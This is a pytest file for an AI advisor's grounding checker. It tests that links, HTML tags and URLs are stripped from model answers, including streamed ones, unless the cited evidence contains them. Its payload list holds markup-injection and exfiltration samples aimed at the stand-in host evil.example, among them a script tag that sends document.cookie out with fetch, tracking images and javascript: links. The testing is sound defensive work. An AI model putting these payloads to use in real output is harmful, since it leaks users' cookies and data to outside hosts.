"""Markup in a model's answer: no link, HTML tag or URL that the cited evidence does not contain.

Unit level (real embedder, hand-made evidence); `tests/abuse/test_llm_markup.py` runs the same rule end to end
against a scripted OpenAI-compatible server.
"""

from __future__ import annotations

import re

import pytest

from advisor.agent.grounding import GroundedStream, GroundingChecker
from advisor.agent.markup import defang, settled
from advisor.embeddings import Embedder
from advisor.types import Citation, Evidence

SOURCE_URL = "https://www.axios.com/2025/01/07/ai-jobs-on-the-rise-linkedin-report"
EV = {
    "e1": Evidence("e1", "AI Agents is now the #3 most demanded AI skill, appearing in 47.3% of all postings "
                   "(1,967 of 4,155).", "003.txt", "Gap", "article"),
    "e2": Evidence("e2", f"AI engineer is the fastest-growing job title in the US, LinkedIn reported "
                   f"({SOURCE_URL}).", "002.txt", "Jobs", "article"),
}
CITES = [Citation(i, "x.txt", "t", EV[k].text, 0.7, evidence_id=k) for i, k in enumerate(EV, start=1)]
SUPPORTED = "AI Agents appear in 47.3% of all postings"
PAYLOADS = [
    "see [the report](https://evil.example/r)",
    "![x](https://evil.example/p.png)",
    "https://evil.example/leak",
    "https://evil.example/t?id=12345",
    '<img src="https://evil.example/p.gif">',
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    '<a href="https://evil.example">more</a>',
    "[click](javascript:alert(document.cookie))",
    "[open](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example/auto>",
    "<!-- <img src=https://evil.example/c> -->",
    '<iframe src="https://evil.example"></iframe>',
]
MARKUP = re.compile(r"evil|<|>|\]\(|javascript:|data:|https?://", re.I)


@pytest.fixture(scope="module")
def checker(settings) -> GroundingChecker:
    return GroundingChecker(Embedder(settings.embed_cache_path))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_is_stripped_and_the_supported_claim_kept(checker: GroundingChecker, payload: str):
    result = checker.check(f"{SUPPORTED} {payload} [1].", CITES, EV)
    assert "47.3%" in result.text and result.support == 1.0, result
    assert not MARKUP.search(result.text), result.text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_streaming_never_shows_markup_even_cut_into_tiny_deltas(checker: GroundingChecker, payload: str):
    text = f"{SUPPORTED} {payload} [1]. Fintech leads AI adoption among AI Engineer postings [1]."
    for size in (1, 3, 7):
        stream = GroundedStream(checker, CITES, EV)
        shown = [s for i in range(0, len(text), size) for s in stream.feed(text[i : i + size])] + stream.finish()
        assert shown and "47.3%" in shown[0]
        assert not any(MARKUP.search(s) for s in shown), (size, shown)


def test_a_url_the_cited_evidence_contains_is_kept(checker: GroundingChecker):
    result = checker.check(f"AI engineer is the fastest-growing job title in the US ({SOURCE_URL}) [2].", CITES, EV)
    assert SOURCE_URL in result.text and not result.stripped


def test_a_url_only_other_evidence_contains_is_stripped(checker: GroundingChecker):
    """The URL must be in the evidence the sentence cites, not anywhere in what was retrieved."""
    result = checker.check(f"{SUPPORTED}, as reported at {SOURCE_URL} [1].", CITES, EV)
    assert "47.3%" in result.text and SOURCE_URL not in result.text
    assert result.stripped == [SOURCE_URL]


def test_a_sentence_that_is_only_a_link_is_not_a_claim(checker: GroundingChecker):
    result = checker.check(f"{SUPPORTED} [1]. Read it here: https://evil.example/x [1].", CITES, EV)
    assert result.text == f"{SUPPORTED}. [1]" and result.support == 1.0


def test_markup_words_that_are_prose_stay():
    assert defang("Salary data: the median is 5 and a < b.") == "Salary data: the median is 5 and a < b."
    assert defang("Pay rose (see [1]) in 2024 [2].") == "Pay rose (see [1]) in 2024 [2]."


def test_settled_holds_back_an_open_tag_or_link_whole():
    assert settled('postings <img src="https://ev') == ("postings ", '<img src="https://ev')
    assert settled('postings <a href="https://evil.example/x">') == ("postings ", '<a href="https://evil.example/x">')
    assert settled("postings [click](javascript:alert(doc") == ("postings ", "[click](javascript:alert(doc")
    assert settled("postings <script>x</script> more") == ("postings <script>x</script> more", "")
    assert settled("postings [1]. More") == ("postings [1]. More", "")
